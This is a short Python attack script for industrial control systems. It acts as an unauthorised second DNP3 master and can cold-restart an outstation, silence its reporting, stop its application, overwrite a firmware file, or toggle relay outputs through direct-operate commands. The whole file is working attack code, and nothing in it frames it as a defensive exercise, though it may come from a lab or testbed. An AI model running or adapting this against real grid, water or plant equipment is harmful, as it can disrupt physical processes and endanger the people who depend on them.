"""A second DNP3 master (opendnp3): restarts, silences or operates an outstation, stops its application, or sends it a file.

attack_dnp3.py OUTSTATION restart | silence | stop | operate | outputs | file PATH
"""

import sys
import time
from pathlib import Path

import opendnp3 as dnp3
from master import Application, Events

target, what = sys.argv[1], sys.argv[2]
manager = dnp3.DNP3Manager(1)
endpoint, retry = dnp3.IPEndpoint(target, 20000), dnp3.ChannelRetry.Default()
channel = manager.AddTCPClient("tool", dnp3.levels.NORMAL, retry, [endpoint], "0.0.0.0", None)
config = dnp3.MasterStackConfig()
config.link.LocalAddr, config.link.RemoteAddr = 1, 10
config.master.disableUnsolOnStartup = what == "silence"
events, application = Events(), Application()
master = channel.AddMaster("tool", events, application, config)
master.Enable()
time.sleep(1)
if what == "restart":
    master.Restart(dnp3.RestartType.COLD, lambda _: None)
elif what == "stop":
    for function in (dnp3.FunctionCode.INITIALIZE_APPLICATION, dnp3.FunctionCode.STOP_APPLICATION):
        master.PerformFunction(function.name, function, [dnp3.Header.AllObjects(60, 1)])
        time.sleep(0.5)
elif what == "file":
    master.WriteFile("/firmware/rtu-2.8.bin", Path(sys.argv[3]).read_bytes(), dnp3.FilePermissions(), lambda *_: None)
    time.sleep(3)
elif what in ("operate", "outputs"):
    for turn in range(1 if what == "operate" else 6):
        kind = dnp3.OperationType.LATCH_OFF if turn % 2 == 0 else dnp3.OperationType.LATCH_ON
        for index in (3,) if what == "operate" else range(8):
            master.DirectOperate(dnp3.ControlRelayOutputBlock(kind), index, lambda _: None)
            time.sleep(0.05)
time.sleep(1.5)
manager.Shutdown()
